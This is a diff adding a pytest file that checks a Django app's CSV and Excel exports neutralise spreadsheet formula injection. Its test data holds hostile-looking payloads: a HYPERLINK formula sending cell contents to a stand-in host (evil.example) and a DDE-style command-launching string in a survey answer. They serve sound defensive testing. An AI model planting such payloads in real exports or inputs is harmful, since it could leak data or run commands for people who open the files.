@@ -1,0 +1,106 @@
+"""Exports never hand a spreadsheet a formula: every CSV goes through core/csv.py."""
+
+import csv
+import datetime
+import io
+import re
+from io import BytesIO
+from pathlib import Path
+
+import pytest
+from django.conf import settings
+from openpyxl import Workbook, load_workbook
+
+from conftest import client_for
+from sangtao.challenges.models import Indicator
+from sangtao.core import csv as safe_csv
+from sangtao.evaluation.models import Measurement
+from sangtao.surveys.ingest import Incoming, ingest
+from sangtao.surveys.models import Measure, Source
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1",
+            "'=already quoted", "''-twice"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_formula_text_is_quoted_and_the_quote_comes_off_on_import(text):
+    written = safe_csv.neutralise(text)
+    assert written == "'" + text
+    assert safe_csv.unquote(written) == text
+
+
+@pytest.mark.parametrize("value", ["plain", "'quoted prose", "1-2", "a=b", "", -5, 2.5, None])
+def test_other_cells_are_written_as_they_are(value):
+    assert safe_csv.neutralise(value) == value
+    if isinstance(value, str):
+        assert safe_csv.unquote(value) == value
+
+
+def test_no_module_writes_csv_or_spreadsheet_rows_around_the_safe_writer():
+    """The class guard: a new export that calls csv.writer or sheet.append directly fails here."""
+    root = Path(settings.BASE_DIR) / "sangtao"
+    direct = re.compile(r"csv\.(writer|DictWriter)\(|\b(sheet|summary|worksheet)\.append\(")
+    offenders = [str(path.relative_to(root)) for path in root.rglob("*.py")
+                 if "tests" not in path.parts and path.name != "csv.py" and direct.search(path.read_text())]
+    assert offenders == []
+
+
+def test_a_spreadsheet_row_keeps_formula_like_text_as_text():
+    sheet = Workbook().active
+    safe_csv.append_row(sheet, ["=1+1", 3, "@x"])
+    buffer = BytesIO()
+    sheet.parent.save(buffer)
+    cells = list(load_workbook(BytesIO(buffer.getvalue())).active.iter_rows())[0]
+    assert [(c.value, c.data_type) for c in cells] == [("=1+1", "s"), (3, "n"), ("@x", "s")]
+
+
+@pytest.fixture
+def hostile(survey, dost, health):
+    """Formula-like text wherever anyone can type it: a challenge's title, a unit's name, an indicator,
+    a measurement's source, a survey's free-text answer and an imported response id."""
+    challenge = survey.challenge
+    type(challenge).objects.filter(pk=challenge.pk).update(title=FORMULAS[0])
+    type(health).objects.filter(pk=health.pk).update(name="=1+2")
+    indicator = challenge.indicators.get()
+    Indicator.objects.filter(pk=indicator.pk).update(name="-2+3")
+    Measurement.objects.create(indicator=indicator, value=-5, measured_on=datetime.date(2026, 2, 1),
+                               source="@SUM(A1)", recorded_by=dost)
+    text = survey.version.items.get(measure=Measure.TEXT)
+    scale = survey.version.items.filter(measure=Measure.SATISFACTION).first()
+    ingest(survey, [Incoming(health.pk, survey.periods.first().pk, {scale.pk: 4}, texts={text.pk: "+cmd|' /C calc'!A0"},
+                             external_id="-1", weight=1.0)], Source.PAPER)
+    return survey
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def _csv_cells(response) -> list[str]:
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("url", ["/open-data/challenges.csv", "/surveys/{survey}/responses.csv",
+                                 "/surveys/{survey}/indices.csv", "/challenges/{challenge}/outcome.csv"])
+def test_every_csv_export_quotes_formula_like_text(hostile, dost, url):
+    response = client_for(dost).get(url.format(survey=hostile.pk, challenge=hostile.challenge_id))
+    assert response.status_code == 200
+    cells = _csv_cells(response)
+    assert not [cell for cell in cells if cell.startswith(safe_csv.TRIGGERS) and not _number(cell)]
+    assert any(cell.startswith("'") for cell in cells)  # numbers (a measured -5) are written as numbers
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("url", ["/surveys/{survey}/indices.xlsx", "/challenges/{challenge}/outcome.xlsx"])
+def test_every_spreadsheet_export_keeps_formula_like_text_as_text(hostile, dost, url):
+    response = client_for(dost).get(url.format(survey=hostile.pk, challenge=hostile.challenge_id))
+    assert response.status_code == 200
+    cells = [cell for sheet in load_workbook(BytesIO(response.content)) for row in sheet.iter_rows() for cell in row]
+    assert not [cell.value for cell in cells if cell.data_type == "f"]
+    assert any(isinstance(cell.value, str) and cell.value.startswith(("=", "-", "@")) for cell in cells)
